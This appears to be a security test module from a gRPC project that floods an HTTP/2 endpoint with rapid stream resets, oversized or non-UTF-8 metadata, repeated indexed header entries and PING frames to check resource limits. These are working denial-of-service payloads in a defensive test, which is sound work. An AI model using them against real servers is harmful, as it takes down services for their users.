"""Peers that misuse HTTP/2: python -m tests.security.grpc_flood.

Reads lines of an endpoint and an attack, attacks for ATTACK_S with the priority of an idle process, and prints a line.
"""

from __future__ import annotations

import os
import sys
import time
from collections.abc import Callable, Mapping

from tests.security.raw_http2 import (
    PING,
    RESET,
    RawPeer,
    call,
    call_headers,
    call_in_parts,
    frame,
    literal,
)

ATTACK_S = 0.3
_HEALTH = call_headers("/grpc.health.v1.Health/Check")
_CANCEL = b"\x00\x00\x00\x08"
# A byte that is no UTF-8. The second form takes one byte on the wire for each further entry.
_NO_TEXT = literal(b"a", b"\x81")
_STORED = b"\x40\x01a\x01\x81"
_AGAIN = b"\xbe"


def resets(number: int) -> bytes:
    """A call that its peer cancels at once."""
    return call(2 * number + 1, _HEALTH) + frame(RESET, 2 * number + 1, _CANCEL)


def wrong_entries(number: int) -> bytes:
    """A call with 16 KiB of metadata that is no text."""
    return call_in_parts(2 * number + 1, _HEALTH, 4, _NO_TEXT * 700)


def stored_entries(number: int) -> bytes:
    """A call with 16,000 entries in 16 KB."""
    return call_in_parts(2 * number + 1, _HEALTH + _STORED, 4, _AGAIN * 4_000)


ATTACKS: Mapping[str, Callable[[int], bytes]] = {
    "resets": resets,
    "wrong entries": wrong_entries,
    "stored entries": stored_entries,
    "pings": lambda number: frame(PING, content=b"12345678"),
}


# gRPC bounds no metadata of a peer that acknowledges no settings, so a flood of it costs memory: docs/security.md.
CALLS: Mapping[str, int] = {"wrong entries": 20, "stored entries": 3}


def send_calls(endpoint: str, kind: str) -> None:
    """Sends the calls of `CALLS`, and waits for the end of the connection."""
    with RawPeer(endpoint, acknowledges=False) as peer:
        peer.send(b"".join(map(ATTACKS[kind], range(CALLS[kind]))), ATTACK_S)
        peer.closed_within(ATTACK_S)


def flood(endpoint: str, make: Callable[[int], bytes]) -> None:
    """Attacks for ATTACK_S, and connects again when it must."""
    end_s = time.monotonic() + ATTACK_S
    while time.monotonic() < end_s:
        with RawPeer(endpoint, acknowledges=True) as peer:
            number = 0
            while time.monotonic() < end_s:
                if not peer.send(b"".join(map(make, range(number, number + 10))), ATTACK_S):
                    break
                number += 10


def main() -> None:
    """Attacks until the input ends."""
    os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
    for line in sys.stdin:
        endpoint, _, kind = line.strip().partition(" ")
        if kind in CALLS:
            send_calls(endpoint, kind)
        else:
            flood(endpoint, ATTACKS[kind])
        print("done", flush=True)


if __name__ == "__main__":
    main()
